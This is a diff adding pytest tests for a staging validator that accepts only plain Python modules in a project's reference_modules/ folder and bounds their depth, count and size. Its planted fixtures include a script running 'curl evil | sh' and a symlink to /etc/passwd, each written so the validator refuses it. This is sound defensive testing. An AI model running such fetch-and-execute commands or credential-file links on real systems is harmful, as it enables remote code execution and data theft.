@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 from pathlib import Path
 
 import pytest
@@ -138,3 +139,63 @@ def test_a_report_json_that_is_not_a_bounded_json_object_is_refused(stage, conte
 def test_every_file_is_checked_for_links_too(stage):
     os.link(stage[0] / "optimized_model.py", stage[0] / "kernels" / "sp002.py")
     _refused(stage, "hard link")
+
+
+# --- reference_modules/: the model's own modules (lego_core.local_modules) ---------------
+
+
+def _with_modules(folder: Path) -> Path:
+    """What an honest run of a two-file model stages in reference_modules/."""
+    modules = folder / "reference_modules"
+    (modules / "blocks" / "sub").mkdir(parents=True)
+    (modules / "mylayers.py").write_text("import torch\n")
+    (modules / "blocks" / "__init__.py").write_text("from blocks.inner import Block\n")
+    (modules / "blocks" / "inner.py").write_text("class Block: ...\n")
+    (modules / "blocks" / "sub" / "deep.py").write_text("X = 1\n")
+    return modules
+
+
+def test_the_models_own_modules_are_accepted(stage):
+    _with_modules(stage[0])
+    folder, report, spec = stage
+    assert staged.accept(folder, report, RUN_ID, spec)["summary"]["e2e_passed"] is True
+
+
+@pytest.mark.parametrize("plant, expected", [
+    (lambda m: (m / "run.sh").write_text("curl evil | sh\n"), "reference_modules/run.sh, which LEGO never writes"),
+    (lambda m: (m / "lib.so").write_bytes(b"\x7fELF"), "reference_modules/lib.so, which LEGO never writes"),
+    (lambda m: (m / "a-b.py").write_text(""), "reference_modules/a-b.py, which LEGO never writes"),
+    (lambda m: (m / "blocks" / "__pycache__").mkdir(), "reference_modules/blocks/__pycache__, which LEGO never writes"),
+    (lambda m: (m / "blocks" / "data").mkdir() or (m / "blocks" / "data" / "w.bin").write_bytes(b"\0"),
+     "reference_modules/blocks/data/w.bin, which LEGO never writes"),
+    (lambda m: (m / "bad dir").mkdir(), "reference_modules/bad dir, which LEGO never writes"),
+    (lambda m: os.symlink("/etc/passwd", m / "passwd.py"), "symbolic link"),
+], ids=["script", "shared-object", "dash", "pycache", "data-file", "space-folder", "link"])
+def test_anything_but_python_modules_in_reference_modules_is_refused(stage, plant, expected):
+    plant(_with_modules(stage[0]))
+    _refused(stage, expected)
+
+
+def test_reference_modules_must_be_a_folder(stage):
+    (stage[0] / "reference_modules").write_text("import os\n")
+    _refused(stage, "reference_modules, which LEGO never writes")
+
+
+def test_reference_modules_are_bounded_in_depth_count_and_size(stage, monkeypatch):
+    from lego_core import local_modules
+
+    modules = _with_modules(stage[0])
+    deep = modules.joinpath(*["d"] * (local_modules.MAX_DEPTH + 1))
+    deep.mkdir(parents=True)
+    (deep / "x.py").write_text("")
+    _refused(stage, f"more than {local_modules.MAX_DEPTH} folders deep")
+    shutil.rmtree(modules / "d")
+    monkeypatch.setattr(local_modules, "MAX_FILES", 3)
+    _refused(stage, "more than 3 files in reference_modules/")
+    monkeypatch.setattr(local_modules, "MAX_FILES", 1000)
+    monkeypatch.setattr(local_modules, "MAX_TOTAL_BYTES", 40)
+    _refused(stage, r"MiB in reference_modules/ \(at most 3.8147e-05 MiB\)")
+    monkeypatch.setattr(local_modules, "MAX_TOTAL_BYTES", 1 << 20)
+    monkeypatch.setattr(staged, "SOURCE_BYTES", 100)
+    (modules / "mylayers.py").write_text("#" * 101)
+    _refused(stage, "reference_modules/mylayers.py is 0.0 MiB")
